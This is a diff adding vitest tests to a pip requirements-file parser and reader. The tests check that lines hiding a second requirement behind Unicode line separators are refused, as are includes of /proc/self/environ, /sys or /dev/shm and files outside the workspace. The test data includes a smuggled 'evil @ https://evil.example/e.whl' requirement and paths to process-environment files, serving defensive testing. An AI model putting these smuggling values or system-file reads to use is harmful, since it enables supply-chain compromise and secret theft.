@@ -2,7 +2,15 @@
 // page and PEP 508's examples (every line there must pass), the malformed table from lines that
 // packaging >= 22 (every current pip) rejects. Cross-checked once against packaging 26.2's
 // Requirement(): each "valid" requirement parses there, each "malformed" one raises.
-import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  realpathSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -14,7 +22,7 @@ import {
   parseLine,
   parseRequirementsText,
 } from '../../src/requirements/parse.js';
-import { MAX_REQUIREMENTS_BYTES, readRequirements } from '../../src/requirements/read.js';
+import { MAX_REQUIREMENTS_BYTES, readRequirements, workspaceRoot } from '../../src/requirements/read.js';
 import { inputErrorOf } from '../helpers/errors.js';
 
 /** pip's documentation examples (requirements-file-format, requirement-specifiers, pip install). */
@@ -205,6 +213,45 @@ describe('what a line is', () => {
   });
 });
 
+/** What pip's str.splitlines() breaks a line at besides "\n", and other C0 controls (not tab). */
+const CONTROL_CHARS: [string, string][] = [
+  ['\u2028', 'U+2028 (a line separator)'],
+  ['\u2029', 'U+2029 (a paragraph separator)'],
+  ['\x85', 'U+0085 (a next-line character)'],
+  ['\x0b', 'U+000B (a vertical tab)'],
+  ['\x0c', 'U+000C (a form feed)'],
+  ['\x1c', 'U+001C (a file separator)'],
+  ['\x1d', 'U+001D (a group separator)'],
+  ['\x1e', 'U+001E (a record separator)'],
+  ['\r', 'U+000D (a carriage return without a newline)'],
+  ['\x00', 'the control character U+0000'],
+  ['\x1b', 'the control character U+001B'],
+  ['\x01', 'the control character U+0001'],
+];
+
+describe('a line pip would split (str.splitlines) or holding a control character is refused', () => {
+  const hidden = (c: string) => `c${c}evil @ https://evil.example/e.whl`;
+  it.each(CONTROL_CHARS.map(([c, why]) => [why, c]))(
+    'holding %s, in a comment or a requirement; tab and CRLF stay allowed',
+    (why, c) => {
+      for (const bad of [`numpy # ${hidden(c)}`, `# ${hidden(c)}`, `scipy==1.*${c}`]) {
+        const r = parseRequirementsText(`numpy\t>=1\r\n${bad}\r\npandas \\\r\n  <3\r\n`);
+        expect(r.errors).toEqual([
+          {
+            line: 2,
+            text: bad.replace(c, `<${why.match(/U\+[0-9A-F]{4}/)![0]}>`),
+            why: expect.stringContaining(`holds ${why}`),
+          },
+        ]);
+        expect(r.lines.map((l) => [l.line, l.text])).toEqual([
+          [1, 'numpy\t>=1'],
+          [3, 'pandas   <3'],
+        ]);
+      }
+    },
+  );
+});
+
 describe('readRequirements', () => {
   let dir: string;
   beforeEach(() => {
@@ -338,5 +385,167 @@ describe('readRequirements', () => {
   it('records ${VAR} references (pip expands them from its environment)', () => {
     write('a.txt', '--extra-index-url https://${PIP_TOKEN}@h/simple\nnumpy\n');
     expect(readRequirements(['a.txt'], dir, {}).envReferences).toEqual(['PIP_TOKEN']);
+  });
+  it('names file and line of a line pip would split, in an include too, never quoting it raw', () => {
+    write('a.txt', 'numpy\n-r b.txt\n');
+    write('b.txt', 'scipy\nnumpy # c\u2028evil @ https://evil.example/e.whl\n');
+    const e = fail(['a.txt']);
+    expect(e.exitCode).toBe(2);
+    expect((e as ConfigError).problems).toEqual([
+      `${path.join(dir, 'b.txt')}:2: invalid requirement "numpy # c<U+2028>evil @ https://evil.example/e.whl": holds U+2028 (a line separator), where pip breaks the line: what follows would be a line never checked here; remove it`,
+    ]);
+  });
+
+  // Files whose contents are the host's, never requirements: the process environment, kernel state.
+  const systemFiles: [string, () => { files: string[]; message: RegExp }][] = [
+    [
+      'a top-level /proc/self/environ',
+      () => ({
+        files: ['/proc/self/environ'],
+        message: /^requirements file \/proc\/self\/environ is under \/proc:/,
+      }),
+    ],
+    [
+      '-r /proc/self/environ',
+      () => (
+        write('a.txt', 'numpy\n-r /proc/self/environ\n'),
+        {
+          files: ['a.txt'],
+          message: new RegExp(
+            `^requirements file /proc/self/environ \\(included from ${path.join(dir, 'a.txt')}:2\\) is under /proc:`,
+          ),
+        }
+      ),
+    ],
+    [
+      '-c /proc/self/status',
+      () => (
+        write('a.txt', 'numpy\n-c /proc/self/status\n'),
+        {
+          files: ['a.txt'],
+          message: new RegExp(
+            `/proc/self/status \\(included from ${path.join(dir, 'a.txt')}:2\\) is under /proc:`,
+          ),
+        }
+      ),
+    ],
+    [
+      'an include through a symlink to /proc/self/environ',
+      () => (
+        symlinkSync('/proc/self/environ', path.join(dir, 'env.txt')),
+        write('a.txt', '-r env.txt\n'),
+        {
+          files: ['a.txt'],
+          message: new RegExp(
+            `${path.join(dir, 'env.txt')} \\(included from ${path.join(dir, 'a.txt')}:1\\) is under /proc:`,
+          ),
+        }
+      ),
+    ],
+    ...(existsSync('/sys/kernel/uevent_seqnum')
+      ? [
+          [
+            '/sys/kernel/uevent_seqnum',
+            () => ({ files: ['/sys/kernel/uevent_seqnum'], message: /is under \/sys:/ }),
+          ] as [string, () => { files: string[]; message: RegExp }],
+        ]
+      : []),
+    ...(existsSync('/dev/shm')
+      ? [
+          [
+            'a regular file under /dev/shm',
+            () => {
+              const f = path.join('/dev/shm', `${path.basename(dir)}.txt`);
+              writeFileSync(f, 'numpy\n');
+              return { files: [f], message: /is under \/dev:/ };
+            },
+          ] as [string, () => { files: string[]; message: RegExp }],
+        ]
+      : []),
+  ];
+  it.each(systemFiles)('refuses %s (exit 2, naming it and where it was included)', (_what, make) => {
+    const { files, message } = make();
+    try {
+      const e = fail(files);
+      expect(e.exitCode).toBe(2);
+      expect(e.message).toMatch(message);
+      expect(e.message).not.toMatch(/PATH=|HOME=/);
+    } finally {
+      rmSync(path.join('/dev/shm', `${path.basename(dir)}.txt`), { force: true });
+    }
+  });
+
+  describe('with a root (the workspace)', () => {
+    let outside: string;
+    beforeEach(() => {
+      outside = mkdtempSync(path.join(tmpdir(), 'ml-image-out-'));
+      writeFileSync(path.join(outside, 'o.txt'), 'numpy\n');
+    });
+    afterEach(() => rmSync(outside, { recursive: true, force: true }));
+    const failIn = (files: string[], root = dir) =>
+      inputErrorOf(() => readRequirements(files, dir, {}, { root }));
+
+    it.each<[string, () => string[], (root: string) => RegExp]>([
+      [
+        'a top-level file outside',
+        () => [path.join(outside, 'o.txt')],
+        (r) => new RegExp(`o\\.txt is outside the workspace ${r}$`),
+      ],
+      [
+        'an -r include outside',
+        () => (write('a.txt', `numpy\n-r ${path.join(outside, 'o.txt')}\n`), ['a.txt']),
+        (r) =>
+          new RegExp(
+            `o\\.txt \\(included from ${path.join(dir, 'a.txt')}:2\\) is outside the workspace ${r}$`,
+          ),
+      ],
+      [
+        'a -c include up and out',
+        () => (write('a.txt', `-c ../${path.basename(outside)}/o.txt\n`), ['a.txt']),
+        (r) => new RegExp(`\\(included from ${path.join(dir, 'a.txt')}:1\\) is outside the workspace ${r}$`),
+      ],
+      [
+        'a symlink inside pointing outside',
+        () => (
+          symlinkSync(path.join(outside, 'o.txt'), path.join(dir, 'l.txt')),
+          write('a.txt', '-r l.txt\n'),
+          ['a.txt']
+        ),
+        (r) =>
+          new RegExp(
+            `l\\.txt \\(included from .*a\\.txt:1\\) is outside the workspace ${r} \\(it resolves to ${realpathSync(outside)}/o\\.txt\\)$`,
+          ),
+      ],
+    ])('refuses %s (exit 2, naming it)', (_what, make, message) => {
+      const e = failIn(make());
+      expect(e.exitCode).toBe(2);
+      expect(e.message).toMatch(message(realpathSync(dir)));
+    });
+
+    it('reads files inside it, also through a symlinked root; without a root, outside is read', () => {
+      write('a.txt', 'numpy\n-r sub/b.txt\n');
+      write('sub/b.txt', 'scipy\n');
+      const link = path.join(outside, 'ws');
+      symlinkSync(dir, link);
+      expect(readRequirements(['a.txt'], dir, {}, { root: dir }).text).toBe('numpy\nscipy');
+      expect(readRequirements(['a.txt'], dir, {}, { root: link }).text).toBe('numpy\nscipy');
+      expect(readRequirements([path.join(outside, 'o.txt')], dir, {}).text).toBe('numpy');
+      // ... and a root that does not bound them is enforced, not ignored.
+      expect(failIn(['a.txt'], path.join(dir, 'sub')).message).toMatch(/a\.txt is outside the workspace/);
+    });
+  });
+});
+
+describe('workspaceRoot: where requirements files may be', () => {
+  it.each<[Record<string, string>, { root?: string }]>([
+    [
+      { GITHUB_ACTIONS: 'true', GITHUB_WORKSPACE: '/home/runner/work/r/r' },
+      { root: '/home/runner/work/r/r' },
+    ],
+    [{ GITHUB_ACTIONS: 'true' }, {}],
+    [{ GITHUB_WORKSPACE: '/w' }, {}],
+    [{}, {}],
+  ])('%j: %j', (env, want) => {
+    expect(workspaceRoot(env)).toEqual(want);
   });
 });
